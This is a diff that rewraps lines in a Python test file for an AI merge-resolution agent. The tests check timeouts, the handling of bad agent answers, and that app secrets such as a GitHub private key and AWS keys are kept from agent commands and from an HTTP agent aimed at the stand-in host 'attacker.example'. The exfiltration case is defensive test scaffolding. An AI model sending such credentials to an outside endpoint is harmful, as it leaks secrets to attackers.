@@ -91,7 +91,11 @@ def test_agent_request_carries_the_protocol_fields(
     ],
 )
 def test_bad_agent_answers_leave_the_file_waiting(
-    make_repo: Callable[[str], GitRepo], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, mode: str, expect: str
+    make_repo: Callable[[str], GitRepo],
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path: Path,
+    mode: str,
+    expect: str,
 ) -> None:
     """Markers, deferrals, garbage, failures and floods are never proposed; the reason says which."""
     out = _run(make_repo, _agent(mode, monkeypatch, tmp_path))
@@ -99,7 +103,9 @@ def test_bad_agent_answers_leave_the_file_waiting(
     assert expect in out.waiting[0].reason
 
 
-def test_agent_timeout_is_bounded(make_repo: Callable[[str], GitRepo], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+def test_agent_timeout_is_bounded(
+    make_repo: Callable[[str], GitRepo], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
     """An agent that hangs is stopped at its timeout and the file waits."""
     out = _run(make_repo, _agent("sleep", monkeypatch, tmp_path, timeout=1))
     assert not out.resolved and "ran past 1s" in out.waiting[0].reason
@@ -123,7 +129,11 @@ def test_http_agent_speaks_openai_chat_completions(monkeypatch: pytest.MonkeyPat
             return None
 
     def opener(req: Any, timeout: int) -> Response:
-        seen["url"], seen["auth"], seen["body"] = req.full_url, req.get_header("Authorization"), json.loads(req.data)
+        seen["url"], seen["auth"], seen["body"] = (
+            req.full_url,
+            req.get_header("Authorization"),
+            json.loads(req.data),
+        )
         answer = {"files": [{"path": "a.py", "defer": "unsure"}]}
         return Response(json.dumps({"choices": [{"message": {"content": json.dumps(answer)}}]}).encode())
 
@@ -153,7 +163,9 @@ def test_agent_from_config() -> None:
     assert isinstance(from_config(AgentConfig(url="https://x/v1")), HttpAgent)
 
 
-def test_a_configs_agent_command_never_sees_the_apps_secrets(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+def test_a_configs_agent_command_never_sees_the_apps_secrets(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
     """Issue 14 finding 1 for ``resolve.agent.command`` (a fork writer's code): it runs with the
     suites' allow-listed environment; the operator's own ``--agent`` command keeps the environment."""
     probe = tmp_path / "probe.py"
@@ -161,14 +173,19 @@ def test_a_configs_agent_command_never_sees_the_apps_secrets(monkeypatch: pytest
     monkeypatch.setenv("GITHUB_PRIVATE_KEY", "-----BEGIN RSA PRIVATE KEY-----planted")
     monkeypatch.setenv("FORKSYNC_WEBHOOK_SECRET", "whsec-planted")
     monkeypatch.setenv("REDIS_URL", "redis://:pw-planted@127.0.0.1:6379/0")
-    monkeypatch.setenv("FORKSYNC_SUITE_ENV_PASS", "GITHUB_PRIVATE_KEY,REDIS_URL")  # listed: still never passed
+    monkeypatch.setenv(
+        "FORKSYNC_SUITE_ENV_PASS", "GITHUB_PRIVATE_KEY,REDIS_URL"
+    )  # listed: still never passed
     configured = from_config(AgentConfig(command=(sys.executable, str(probe))))
     assert isinstance(configured, CommandAgent)
     env = configured.ask({})["env"]
     assert not [k for k, v in env.items() if "planted" in v]
     assert env["HOME"] != os.environ.get("HOME") and "PATH" in env
     operators = from_config(AgentConfig(), command=(sys.executable, str(probe)))
-    assert isinstance(operators, CommandAgent) and operators.ask({})["env"]["FORKSYNC_WEBHOOK_SECRET"] == "whsec-planted"
+    assert (
+        isinstance(operators, CommandAgent)
+        and operators.ask({})["env"]["FORKSYNC_WEBHOOK_SECRET"] == "whsec-planted"
+    )
 
 
 def test_a_configs_http_agent_cannot_send_a_worker_variable_the_operator_did_not_allow(
@@ -179,9 +196,13 @@ def test_a_configs_http_agent_cannot_send_a_worker_variable_the_operator_did_not
     sent: list[Any] = []
     monkeypatch.setenv("GITHUB_PRIVATE_KEY", "planted")
     monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "planted")
-    monkeypatch.setenv("FORKSYNC_AGENT_KEY_ENV", "GITHUB_PRIVATE_KEY")  # the App's own key: never, even listed
+    monkeypatch.setenv(
+        "FORKSYNC_AGENT_KEY_ENV", "GITHUB_PRIVATE_KEY"
+    )  # the App's own key: never, even listed
     for name in ("GITHUB_PRIVATE_KEY", "AWS_SECRET_ACCESS_KEY"):
-        agent = HttpAgent("https://attacker.example/v1", name, None, opener=lambda req, timeout: sent.append(req))
+        agent = HttpAgent(
+            "https://attacker.example/v1", name, None, opener=lambda req, timeout: sent.append(req)
+        )
         with pytest.raises(Exception, match="has not allowed") as err:
             agent.ask({})
         assert "FORKSYNC_AGENT_KEY_ENV" in str(err.value)
